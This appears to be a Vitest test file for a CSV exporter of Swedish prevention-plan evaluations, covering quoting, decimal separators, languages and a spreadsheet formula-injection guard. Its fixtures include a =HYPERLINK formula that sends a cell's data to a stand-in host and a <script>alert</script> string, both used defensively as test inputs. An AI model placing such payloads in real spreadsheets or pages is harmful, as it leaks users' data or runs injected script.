import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { OptionError, ReportError, reportCsv } from "../../src/index.js";
import { thrown } from "../support/errors.js";
import { AT_COMMENT, FORMULA_TITLE, formulaEvaluation, NASTY_COMMENT, PLUS_TEXT, sampleEvaluation } from "../support/evaluation.js";
import { evaluationWithoutAreas } from "../support/plan-without-areas.js";
import { deepFreeze } from "../support/plans.js";
import { unitsEvaluation } from "../support/units.js";

const SV_HEADER =
  "delmål;område;aktivitet;indikator;indikatortext;år;status;statustext;värde;mål;framsteg;förändring från föregående år;motivering;kommentarer";
const EN_HEADER =
  "sub-goal,area,activity,indicator,indicator text,year,status,status label,value,target,progress,change from previous year,reason,comments";

describe("reportCsv", () => {
  const csv = reportCsv(deepFreeze(sampleEvaluation()));

  it("starts with a byte order mark and a Swedish header, ;-separated, CRLF line ends", () => {
    expect(csv.startsWith(`\uFEFF${SV_HEADER}\r\n`)).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replace(/\r\n/gu, "")).not.toMatch(/\r(?!\n)/u);
  });

  it("has one row per indicator per year, each indicator's years together", () => {
    const records = Papa.parse<string[]>(csv.slice(1), { delimiter: ";", newline: "\r\n", skipEmptyLines: true }).data;
    expect(records).toHaveLength(1 + 9 * 3);
    expect(records.slice(1, 7).map((r) => `${r[3]} ${r[5]}`)).toEqual([
      "1.1-1 2018",
      "1.1-1 2019",
      "1.1-1 2020",
      "1.2-1 2018",
      "1.2-1 2019",
      "1.2-1 2020",
    ]);
    expect(records.every((r) => r.length === 14)).toBe(true);
  });

  it("writes each row exactly, quoting by RFC 4180 and writing numbers with a decimal comma", () => {
    expect(csv).toContain(
      "\r\n1;En effektiv och samordnad alkohol- och tobakstillsyn;1.1;1.1-1;Antal deltagare vid utbildning i ansvarsfull alkoholservering;2019;met;Uppfyllt;45;40;;7;Målet 40 är nått (45).;\r\n",
    );
    expect(csv).toContain(
      "\r\n1;En effektiv brottsbekämpning av illegal handel;1.3;1.3-1;Antal samverkansträffar mellan polis och kommuner;2019;not_met;Ej uppfyllt;3;10;;-5;" +
        '3 av målet 10 (30 %): för långt från målet.;"Polis & kommun: färre träffar; se <script>alert(""x"")</script> | protokoll\nRad två med \'citat\'"\r\n',
    );
    expect(csv).toContain(
      "\r\n2;Drogfria miljöer | skola & fritid;2.4;2.4-1;Andel skolor med rökfri skolgård;2019;met;Uppfyllt;0,75;0,7;;0,1;Målet 0,7 är nått (0,75).;\r\n",
    );
    expect(csv).toContain(
      "\r\n2;Föräldraskapsstöd;2.2;2.2-1;Antal deltagare i föräldrautbildning;2019;missing;Saknas;;;;;Ingen uppgift redovisad (Uppgift saknas från kommunerna).;Uppgift saknas från kommunerna\r\n",
    );
    expect(csv).toContain(
      '\r\n2;Föräldraskapsstöd;2.2;2.2-1;Antal deltagare i föräldrautbildning;2020;not_yet_due;Ej aktuellt än;;;;;"År 2020 är inte slut den 2020-03-31; inget värde krävs ännu.";\r\n',
    );
  });

  it("reads back to the same fields", () => {
    const records = Papa.parse<string[]>(csv.slice(1), { delimiter: ";", newline: "\r\n", skipEmptyLines: true }).data;
    const nasty = records.find((r) => r[3] === "1.3-1" && r[5] === "2019");
    expect(nasty?.[13]).toBe(NASTY_COMMENT);
    expect(records.find((r) => r[3] === "2.2-2" && r[5] === "2019")?.[12]).toBe("Redovisat: 1\u00a0200; inget mål att jämföra med.");
  });

  it("writes English with commas, decimal points, and only the year asked for", () => {
    const en = reportCsv(sampleEvaluation(), { lang: "en", year: 2019 });
    const lines = en.split("\r\n");
    expect(lines[0]).toBe(`\uFEFF${EN_HEADER}`);
    expect(lines).toHaveLength(1 + 9 + 1);
    expect(en).toContain(
      '\r\n2,Drogfria miljöer | skola & fritid,2.4,2.4-1,Andel skolor med rökfri skolgård,2019,met,Met,0.75,0.7,,0.1,"Målet 0,7 är nått (0,75).",\r\n',
    );
    expect(en).toContain(
      "\r\n2,Drogfria miljöer | skola & fritid,2.3,2.3-1,Kartläggning av drogfria fritidsmiljöer genomförd,2019,not_expected,Nothing due this year,,,,,Redan genomfört 2018.,\r\n",
    );
  });

  it("takes another delimiter, quoting Swedish decimals that hold it, and can leave out the byte order mark", () => {
    const comma = reportCsv(sampleEvaluation(), { delimiter: ",", year: 2019, bom: false });
    expect(comma.startsWith("delmål,område,")).toBe(true);
    expect(comma).toContain(',2019,met,Uppfyllt,"0,75","0,7",,"0,1","Målet 0,7 är nått (0,75).",\r\n');
  });

  it("does not change the evaluation", () => {
    const frozen = deepFreeze(sampleEvaluation());
    reportCsv(frozen, { lang: "en" });
    expect(frozen).toEqual(sampleEvaluation());
  });

  it("puts a ' before text that a spreadsheet would run as a formula, never before a number", () => {
    const guarded = reportCsv(deepFreeze(formulaEvaluation()), { year: 2019 });
    expect(guarded).toContain(
      '\r\n1;"\'=HYPERLINK(""https://example.invalid/?d=""&E2;""Klicka här"")";1.1;1.1-1;' +
        "'+46 470-123 45 svarar på frågor om utbildningen;2019;met;Uppfyllt;45;40;;7;Målet 40 är nått (45).;" +
        "'@SUMMA(1+1) enligt kommunens rapport\r\n",
    );
    // A fall of 5 is a number in a number column: no quote, so the spreadsheet can add it up.
    expect(guarded).toContain(
      "\r\n1;En effektiv brottsbekämpning av illegal handel;1.3;1.3-1;Antal samverkansträffar mellan polis och kommuner;2019;not_met;Ej uppfyllt;3;10;;-5;",
    );
    const records = Papa.parse<string[]>(guarded.slice(1), { delimiter: ";", newline: "\r\n", skipEmptyLines: true }).data;
    const row = records.find((r) => r[3] === "1.1-1");
    expect([row?.[1], row?.[4], row?.[13]]).toEqual([`'${FORMULA_TITLE}`, `'${PLUS_TEXT}`, `'${AT_COMMENT}`]);
    expect(records.find((r) => r[3] === "1.3-1")?.[11]).toBe("-5");
  });

  it.each([
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " =",
    "  +",
    "\n=",
    "\r\n-",
    "\t@",
    "\u3000=",
    "\uFF1D",
    "\uFF0B",
    "\uFF0D",
    "\uFF20",
    " \uFF1D",
    "\uFE66",
    "\uFE62",
    "\uFE63",
  ])("guards text that starts with %j, and only at the start", (start) => {
    const evaluation = sampleEvaluation();
    const indicator = evaluation.subGoals[1]?.areas[0]?.activities[0]?.indicators[0];
    if (indicator === undefined) throw new Error("the sample has changed");
    indicator.text = `${start}1+1`;
    const csv = reportCsv(evaluation, { year: 2019, lang: "en" });
    const records = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data;
    expect(records.find((r) => r[3] === "2.1-1")?.[4]).toBe(`'${start}1+1`);
    indicator.text = `1${start}1`;
    const inside = reportCsv(evaluation, { year: 2019, lang: "en" });
    const inner = Papa.parse<string[]>(inside.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data;
    expect(inner.find((r) => r[3] === "2.1-1")?.[4]).toBe(`1${start}1`);
  });

  it("leaves text that starts with white space and no formula sign as it is", () => {
    const evaluation = sampleEvaluation();
    const indicator = evaluation.subGoals[1]?.areas[0]?.activities[0]?.indicators[0];
    if (indicator === undefined) throw new Error("the sample has changed");
    indicator.text = " 1 = 1";
    const csv = reportCsv(evaluation, { year: 2019, lang: "en" });
    const records = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data;
    expect(records.find((r) => r[3] === "2.1-1")?.[4]).toBe(" 1 = 1");
  });

  it("writes the text as it is with formulaGuard false", () => {
    const raw = reportCsv(formulaEvaluation(), { year: 2019, formulaGuard: false });
    expect(raw).toContain(
      '\r\n1;"=HYPERLINK(""https://example.invalid/?d=""&E2;""Klicka här"")";1.1;1.1-1;' +
        "+46 470-123 45 svarar på frågor om utbildningen;2019;met;Uppfyllt;45;40;;7;Målet 40 är nått (45).;" +
        "@SUMMA(1+1) enligt kommunens rapport\r\n",
    );
    // The guard changes nothing in text that starts no formula.
    expect(reportCsv(sampleEvaluation(), { formulaGuard: false })).toBe(csv);
  });

  it("refuses a delimiter, a year or a language it cannot use", () => {
    const delimiter = thrown(ReportError, () => reportCsv(sampleEvaluation(), { delimiter: "\t" as ";" }));
    expect([delimiter.code, delimiter.path, delimiter.message]).toEqual([
      "invalid_delimiter",
      ["delimiter"],
      'Avgränsaren ska vara ";" eller ",", inte "\\t".',
    ]);
    const year = thrown(ReportError, () => reportCsv(sampleEvaluation(), { year: 2021, lang: "en" }));
    expect([year.code, year.message]).toEqual(["unknown_year", "The year 2021 is not in the evaluation (years: 2018, 2019, 2020)."]);
    const lang = thrown(OptionError, () => reportCsv(sampleEvaluation(), { lang: "fi" as "sv" }));
    expect([lang.code, lang.path, lang.message]).toEqual(["invalid_lang", ["lang"], 'Språket ska vara "sv" eller "en", inte "fi".']);
  });
});

describe("reportCsv: breakdowns by named units", () => {
  it("adds a breakdown column only when some value has one", () => {
    const [header, ...rows] = reportCsv(unitsEvaluation(), { year: 2019, bom: false }).split("\r\n");
    expect(header).toBe(`${SV_HEADER};uppdelning`);
    const visits = rows.find((r) => r.includes(";F.1-1;"));
    expect(visits?.endsWith(";Per stadsdel, F.1-1, 2019: Centrum 22, Norr .., Söder ..")).toBe(true);
    expect(reportCsv(sampleEvaluation(), { bom: false }).split("\r\n")[0]).toBe(SV_HEADER);
  });
});

describe("reportCsv of a plan without areas, with its own names of its levels", () => {
  const lines = (lang: "sv" | "en") => reportCsv(deepFreeze(evaluationWithoutAreas()), { lang, year: 2013, bom: false }).split("\r\n");

  it("names the columns as the plan names its levels, but keeps a name that another column has", () => {
    // The plan's "Mål" would repeat the target column "mål", so the sub-goal column stays "delmål".
    expect(lines("sv")[0]).toBe(SV_HEADER.replace(";aktivitet;", ";insatsområde;"));
    expect(lines("en")[0]).toBe(EN_HEADER.replace("sub-goal,", "goal,"));
  });

  it("leaves the area empty for an activity directly under its sub-goal", () => {
    expect(lines("sv").slice(1, 4)).toEqual([
      "1;;1.1;1.1-1;Antal tillsynsbesök.;2013;partly_met;Delvis uppfyllt;8;10;;;8 av målet 10 (80 %).;",
      "1;;1.2;1.2-1;Antal insatser.;2013;missing;Saknas;;;;;Ingen uppgift redovisad.;",
      "2;;2.1;2.1-1;Antal insatser.;2013;missing;Saknas;;;;;Ingen uppgift redovisad.;",
    ]);
  });
});
